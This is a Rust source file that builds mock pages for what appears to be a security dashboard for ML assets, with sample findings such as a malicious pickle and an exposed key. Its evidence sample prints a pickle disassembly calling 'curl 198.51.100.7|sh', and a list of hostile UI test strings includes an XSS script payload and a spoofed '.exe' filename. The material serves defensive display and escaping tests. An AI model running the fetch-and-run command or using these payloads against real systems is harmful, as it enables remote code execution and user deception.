//! The pages.

use askama::Template;
use jiff::Timestamp;
use stance_core::{AssetKind, Confidence, Severity};

use crate::draw::spark::spark;
use crate::draw::stack::Part;
use crate::frame::{Frame, Section};
use crate::parts::{Address, Choice, Line, excerpt, unified};
use crate::sample;

/// A finding as the lists show it.
pub(crate) struct Row {
    pub(crate) id: u64,
    pub(crate) severity: Severity,
    pub(crate) title: &'static str,
    pub(crate) rule: &'static str,
    pub(crate) place: &'static str,
    pub(crate) kind: AssetKind,
    pub(crate) asset: String,
    pub(crate) owner: String,
    pub(crate) seen: Timestamp,
    pub(crate) due: Timestamp,
    pub(crate) back: f64,
}

fn rows() -> Vec<Row> {
    let row = |id,
               severity,
               title,
               rule,
               place,
               kind,
               asset: &str,
               owner: &str,
               (hours, due): (i64, i64),
               back| Row {
        id,
        severity,
        title,
        rule,
        place,
        kind,
        asset: asset.to_owned(),
        owner: owner.to_owned(),
        seen: sample::ago(hours),
        due: sample::ago(-due),
        back,
    };
    vec![
        row(
            812,
            Severity::Critical,
            "Pickle runs os.system when it is loaded",
            "model/pickle-exec",
            "models/churn/v7/model.pkl, offset 0x2f",
            AssetKind::Model,
            "churn v7",
            "growth",
            (2, 9),
            2.2,
        ),
        row(
            790,
            Severity::Critical,
            "The CI role can replace a served model",
            "identity/artifact-overwrite",
            "s3://ml-artifacts/rank/*",
            AssetKind::Endpoint,
            "rank-prod",
            "ml-platform",
            (24, 72),
            3.8,
        ),
        row(
            744,
            Severity::High,
            "Untrusted content reaches a refund tool",
            "agent/untrusted-to-tool",
            "agents/support.py:88",
            AssetKind::Agent,
            "support-agent",
            "support-eng",
            (72, 336),
            1.9,
        ),
        row(
            731,
            Severity::High,
            "A provider's key stands in the output of a notebook",
            "secret/provider-key",
            "notebooks/eval.ipynb, cell 14",
            AssetKind::Secret,
            "eval.ipynb",
            "",
            (72, 336),
            0.9,
        ),
        row(
            702,
            Severity::High,
            "The inference server listens on all interfaces without a key",
            "config/endpoint-public",
            "deploy/vllm.yaml:31",
            AssetKind::Endpoint,
            "llama-70b",
            "ml-platform",
            (120, 336),
            1.4,
        ),
        row(
            698,
            Severity::High,
            "vllm 0.6.1 has a known exploited flaw",
            "supply-chain/vulnerable-component",
            "requirements.txt:12",
            AssetKind::Package,
            "inference-svc",
            "ml-platform",
            (120, -50),
            1.1,
        ),
        row(
            655,
            Severity::Medium,
            "Data capture is off",
            "config/no-capture",
            "sagemaker/rank.tf:40",
            AssetKind::Endpoint,
            "rank-prod",
            "ml-platform",
            (240, 700),
            0.2,
        ),
        row(
            640,
            Severity::Low,
            "The model has no card",
            "governance/no-card",
            "models/churn",
            AssetKind::Model,
            "models/a/very/long/path/that/goes/on/and/on/through/many/folders/until/it/ends/model.safetensors",
            "a-team-with-a-rather-long-name-too",
            (800, 1400),
            0.1,
        ),
        row(
            601,
            Severity::Info,
            "The MCP server offers 41 tools",
            "agent/many-tools",
            ".mcp.json:7",
            AssetKind::McpServer,
            "fs-tools",
            "it",
            (2400, 2400),
            0.0,
        ),
    ]
}

fn evidence() -> Vec<Line> {
    excerpt(
        "0x2f  STACK_GLOBAL   posix system\n0x30  SHORT_UNICODE  'curl 198.51.100.7|sh'\n0x48  TUPLE1\n0x49  REDUCE         posix.system('curl 198.51.100.7|sh')",
        1,
        4..=4,
    )
}

fn fix() -> Vec<Line> {
    unified(
        "@@ -86,4 +86,4 @@\n def load(path):\n     log.info(\"loading %s\", path)\n-    model = torch.load(path)\n+    model = torch.load(path, weights_only=True)\n     return model.eval()\n@@ -120,2 +120,3 @@\n     return app\n+# Nobody loads what was not signed.\n",
    )
}

/// A figure with its target.
pub(crate) struct Kpi {
    pub(crate) name: &'static str,
    pub(crate) value: &'static str,
    pub(crate) unit: &'static str,
    pub(crate) note: &'static str,
    pub(crate) state: &'static str,
    pub(crate) spark: String,
}

fn kpis() -> Vec<Kpi> {
    let kpi = |name, value, unit, note, state, values: &[f64]| Kpi {
        name,
        value,
        unit,
        note,
        state,
        spark: spark(&format!("{name} over 8 weeks, now {value} {unit}"), values),
    };
    vec![
        kpi(
            "Assets with an owner",
            "94",
            "%",
            "target 95%, +3 in 30 days",
            "warning",
            &[80.0, 82.0, 85.0, 85.0, 88.0, 91.0, 92.0, 94.0],
        ),
        kpi(
            "Time to fix, critical",
            "3.2",
            "days",
            "target 7 days, p90 6.1",
            "good",
            &[9.0, 8.2, 8.5, 6.0, 5.1, 4.0, 4.0, 3.2],
        ),
        kpi(
            "Overdue findings",
            "2",
            "",
            "target 0",
            "bad",
            &[0.0, 0.0, 1.0, 1.0, 3.0, 2.0, 2.0, 2.0],
        ),
        kpi(
            "Judged files",
            "99.2",
            "%",
            "41 files not judged",
            "",
            &[98.0],
        ),
    ]
}

/// Everything at once.
#[derive(Template)]
#[template(path = "gallery.html")]
pub(crate) struct Gallery {
    frame: Frame,
    rows: Vec<Row>,
    address: Address,
    choices: Vec<Choice>,
    evidence: Vec<Line>,
    fix: Vec<Line>,
    kpis: Vec<Kpi>,
    frameworks: Vec<(&'static str, Vec<Part<'static>>)>,
    severities: [Severity; 5],
    confidences: [Confidence; 3],
    kinds: [AssetKind; 18],
    states: [&'static str; 20],
    deltas: [f64; 3],
    long: String,
    hostile: [&'static str; 4],
}

impl Gallery {
    pub(crate) fn new() -> Self {
        let choice = |value: &str, count, on| Choice {
            value: value.to_owned(),
            label: value.to_owned(),
            count: Some(count),
            on,
        };
        Self {
            frame: sample::frame("Gallery", Section::Overview)
                .under("Inventory", "/inventory")
                .under("payments-ml", "/sources/3"),
            rows: rows(),
            address: Address::parse("/findings?severity=critical&severity=high&sort=-severity"),
            choices: vec![
                choice("critical", 3, true),
                choice("high", 14, true),
                choice("medium", 29, false),
                choice("low", 17, false),
            ],
            evidence: evidence(),
            fix: fix(),
            kpis: kpis(),
            frameworks: sample::frameworks(),
            severities: Severity::ALL,
            confidences: Confidence::ALL,
            kinds: AssetKind::ALL,
            states: [
                "open",
                "accepted",
                "fixed",
                "reopened",
                "false_positive",
                "met",
                "partly",
                "not met",
                "no evidence",
                "attested",
                "stale",
                "not applicable",
                "weakening",
                "neutral",
                "strengthening",
                "running",
                "failed",
                "waiting",
                "sanctioned",
                "unsanctioned",
            ],
            deltas: [2.1, -0.6, 0.0],
            long: "models/".repeat(1_500),
            hostile: [
                "\"><script>alert(1)</script>",
                "invoice\u{202e}fdp.exe",
                "zero\u{200b}width\u{feff}",
                "\u{5e9}\u{5dc}\u{5d5}\u{5dd} \u{6a21}\u{578b} \u{1f600} e\u{301}",
            ],
        }
    }
}

/// The first page.
#[derive(Template)]
#[template(path = "overview.html")]
pub(crate) struct Overview {
    frame: Frame,
    rows: Vec<Row>,
    kpis: Vec<Kpi>,
    frameworks: Vec<(&'static str, Vec<Part<'static>>)>,
}

impl Overview {
    pub(crate) fn new() -> Self {
        let mut frame = sample::frame("Overview", Section::Overview);
        frame.flash = None;
        let mut rows = rows();
        rows.sort_by(|one, other| other.back.total_cmp(&one.back));
        rows.truncate(5);
        Self {
            frame,
            rows,
            kpis: kpis(),
            frameworks: sample::frameworks(),
        }
    }
}

/// A list with the first of it opened beside.
#[derive(Template)]
#[template(path = "findings.html")]
pub(crate) struct Findings {
    frame: Frame,
    rows: Vec<Row>,
    address: Address,
    choices: Vec<Choice>,
    evidence: Vec<Line>,
}

impl Findings {
    pub(crate) fn new() -> Self {
        let mut gallery = Gallery::new();
        gallery.frame = sample::frame("Findings", Section::Findings);
        gallery.frame.flash = None;
        Self {
            frame: gallery.frame,
            rows: gallery.rows,
            address: gallery.address,
            choices: gallery.choices,
            evidence: gallery.evidence,
        }
    }
}

/// One asset.
#[derive(Template)]
#[template(path = "asset.html")]
pub(crate) struct Asset {
    frame: Frame,
}

impl Asset {
    pub(crate) fn new() -> Self {
        let mut frame =
            sample::frame("rank-prod", Section::Inventory).under("Inventory", "/inventory");
        frame.flash = None;
        Self { frame }
    }
}

/// Nobody is signed in.
#[derive(Template)]
#[template(path = "sign-in.html")]
pub(crate) struct SignIn {
    frame: Frame,
}

impl SignIn {
    pub(crate) fn new() -> Self {
        let mut frame = sample::frame("Sign in", Section::Overview).beside("Sign in");
        frame.viewer = None;
        frame.flash = None;
        Self { frame }
    }
}
